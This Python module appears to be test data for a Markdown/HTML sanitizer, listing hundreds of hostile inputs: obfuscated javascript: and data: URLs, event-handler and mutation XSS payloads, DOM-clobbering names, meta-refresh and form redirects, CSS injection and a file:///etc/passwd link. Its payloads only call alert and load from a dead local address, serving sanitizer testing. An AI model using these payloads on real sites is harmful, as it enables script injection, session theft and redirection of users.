"""Hostile Markdown: cases of our own for every technique that is found in public collections.

They cover what the expectations of DOMPurify (https://github.com/cure53/DOMPurify) and the Markdown-XSS-Payloads list
(https://github.com/cujanovic/Markdown-XSS-Payloads) are about: scripts in addresses and how they are disguised, elements that run, load,
send, restyle or lead away by themselves, markup that changes when it is parsed twice, names that hide the DOM's own, and Markdown's
own ways into each of them. No text is taken from either.

Whatever ran would call `alert` or set `hostile`; whatever loaded would ask `FAR`, where nobody answers.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Final

FAR: Final = "http://127.0.0.2:9"
"""Another host, on this machine, with nothing behind it."""
RUN: Final = "alert(hostile=1)"

# -- Addresses -------------------------------------------------------------------------------------------------------------------

SCHEMES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://%0a{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;&#x61;vascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"java&Tab;script&NewLine;:{RUN}",
    f"\x01javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u2028javascript:{RUN}",
    f"\u3000javascript:{RUN}",
    f"%6Aavascript:{RUN}",
    "javascript:window['ale'+'rt'](hostile=1)",
    f"vbscript:msgbox({RUN})",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChob3N0aWxlPTEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"blob:{FAR}/x",
    f"filesystem:{FAR}/x",
    "file:///etc/passwd",
    f"//{FAR.removeprefix('http://')}/x",
)

LINKS: Final = (
    "[words]({})",
    "[words](<{}>)",
    '[words]({} "title")',
    "![words]({})",
    "[![words]({0})]({0})",
    "<{}>",
    "[words][{}]\n\n[{}]: {}",
)
"""`{}` is an address; where there are three, the first two name it."""


def links() -> Iterator[str]:
    """Every address in every form of link."""
    for number, (scheme, link) in enumerate(itertools.product(SCHEMES, LINKS)):
        name = f"ref{number}"
        yield link.format(name, name, scheme) if link.count("{}") > 1 else link.format(scheme)


# -- Elements --------------------------------------------------------------------------------------------------------------------

RUNNING: Final = (
    f"<script>{RUN}</script>",
    f"<script src={FAR}/x.js></script>",
    f"<ScRiPt\n>{RUN}</sCrIpT >",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}"//>',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n'{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to='javascript:{RUN}'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>words</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{RUN}'>words</maction></math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>words</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>words</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>words</marquee>",
    f"<div onmouseover={RUN}>words</div>",
    f"<p style='animation:x' onanimationstart={RUN}>words</p>",
    f"<a href='javascript:{RUN}'>words</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>words</a>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<img src=x onerror={RUN}>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<x contenteditable onblur={RUN}>words</x>",
    f"<button popovertarget=x>words</button><x id=x popover onbeforetoggle={RUN}>words</x>",
)

LOADING: Final = (
    f"<img src={FAR}/img>",
    f"<img srcset='{FAR}/srcset 1x'>",
    f"<picture><source srcset={FAR}/picture><img></picture>",
    f"<video poster={FAR}/poster src={FAR}/video autoplay></video>",
    f"<audio src={FAR}/audio autoplay></audio>",
    f"<track src={FAR}/track>",
    f"<iframe src={FAR}/frame></iframe>",
    f"<object data={FAR}/object></object>",
    f"<embed src={FAR}/embed>",
    f"<input type=image src={FAR}/input>",
    f"<table background={FAR}/table><tr><td background={FAR}/td>words</table>",
    f"<body background={FAR}/body>",
    f"<link rel=stylesheet href={FAR}/css>",
    f"<link rel=prefetch href={FAR}/prefetch>",
    f"<link rel=dns-prefetch href={FAR}/dns>",
    f"<link rel=modulepreload href={FAR}/module>",
    f"<svg><image href={FAR}/image /></svg>",
    f"<svg><feImage href={FAR}/feimage /></svg>",
    f"<svg><use href={FAR}/use#x /></svg>",
    f"<a href={FAR}/a ping={FAR}/ping>words</a>",
    f"![words]({FAR}/markdown)",
    f"![words][far]\n\n[far]: {FAR}/reference 'title'",
    f"[![words]({FAR}/inner)]({FAR}/outer)",
    f"<portal src={FAR}/portal></portal>",
    f"<frameset><frame src={FAR}/frameset></frameset>",
)

LEADING_AWAY: Final = (
    f"<meta http-equiv=refresh content='0;url={FAR}/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href={FAR}/>",
    f"<form action={FAR}/form><input name=key><button>words</button></form>",
    f"<form id=f action={FAR}/owner></form><input form=f name=key>",
    f"<button formaction='javascript:{RUN}'>words</button>",
    f"<input type=submit formaction={FAR}/submit>",
    "<dialog open>words</dialog>",
    f"<a href={FAR}/top target=_top>words</a>",
)

RESTYLING: Final = (
    "<style>*{display:none!important}</style>",
    f"<style>@import '{FAR}/import';</style>",
    f"<style>*{{background:url({FAR}/background)}}</style>",
    "<div style='position:fixed;inset:0;z-index:99'>words</div>",
    f"<div style='background:url({FAR}/style)'>words</div>",
    f"<div style='width:expression({RUN})'>words</div>",
    "<font color=white size=7>words</font>",
    "<plaintext>words",
    "<xmp>words",
    "<noembed>words</noembed>",
)

PARSED_TWICE: Final = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<textarea></textarea><!--</textarea><img src=x onerror={RUN}>-->",
    f"<!--<img src='--><img src=x onerror={RUN}>'>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?php echo '<img src=x onerror={RUN}>' ?>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
    f"<template><img src=x onerror={RUN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<select><style></option></select><img src=x onerror={RUN}></style>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<title><img src=x onerror={RUN}></title>",
    f'<a title="`"><img src=x onerror={RUN}>`">words</a>',
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"\\<img src=x onerror={RUN}\\>",
    f"<img\x00 src=x onerror={RUN}>",
    f"\ufeff<img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u202c",
)

CLOBBERING: Final = tuple(
    f"<{tag} {attribute}={name}>"
    for tag in ("img", "form", "a")
    for attribute in ("id", "name")
    for name in ("cookie", "body", "getElementById", "createElement", "location", "attributes", "defaultView")
)

# -- Markdown's own ways ---------------------------------------------------------------------------------------------------------

BY_MARKDOWN: Final = (
    f"# <img src=x onerror={RUN}>",
    f"- <svg onload={RUN}>\n  1. <img src={FAR}/list>",
    f"> <iframe src={FAR}/quote></iframe>",
    f"> > > <script>{RUN}</script>",
    f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| [words](javascript:{RUN}) | <b onclick={RUN}>words</b> |",
    f"`<script>{RUN}</script>`",
    f"```<img src=x onerror={RUN}>\n</code></pre><img src=x onerror={RUN}>\n```",
    f"```js onload={RUN}\nwords\n```",
    f"~~~\n<script>{RUN}</script>\n~~~",
    f"**<b>[words](javascript:{RUN})</b>**",
    f"_[*words*](javascript:{RUN})_",
    f"~~<del onclick={RUN}>words</del>~~",
    f"[words](http://a'onmouseover='{RUN})",
    f'[words](http://a"onmouseover="{RUN})',
    f"[words](http://a <img src=x onerror={RUN}>)",
    f'![words](x"onerror="{RUN})',
    f"![words' onerror='{RUN}](http://127.0.0.1:9/no)",
    f"[<img src=x onerror={RUN}>](http://example.org)",
    f"[words]\n\n[words]: javascript:{RUN} '<img src=x onerror={RUN}>'",
    f"<http://example.org/?x=<script>{RUN}</script>>",
    f"http://example.org/<script>{RUN}</script>",
    f"- [x] <input type=checkbox onclick={RUN}>",
    f"Words[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"$$<img src=x onerror={RUN}>$$",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f'Words [[s1:1 "<img src=x onerror={RUN}>"]]',
    f"Words [[s1:1 '<script>{RUN}</script>']]",
    'Words [[__proto__:1 "constructor"]] [[constructor:1]] [[s1:9999999]]',
    '[[s1:1 "](javascript:alert(hostile=1)) **"]]',
    "<a href=" + "'" * 40,
    ">" * 3_000 + " words",
    "[" * 200 + "words" + "](javascript:alert(hostile=1))" * 12,
    "*" * 400 + "words" + "_" * 400,
)

CASES: Final = (
    *links(),
    *RUNNING,
    *LOADING,
    *LEADING_AWAY,
    *RESTYLING,
    *PARSED_TWICE,
    *CLOBBERING,
    *BY_MARKDOWN,
)

NAMES: Final = (*RUNNING, *LOADING, *LEADING_AWAY, *RESTYLING)
"""For where a line has to do: titles, headings, names of sources, answers in a table."""
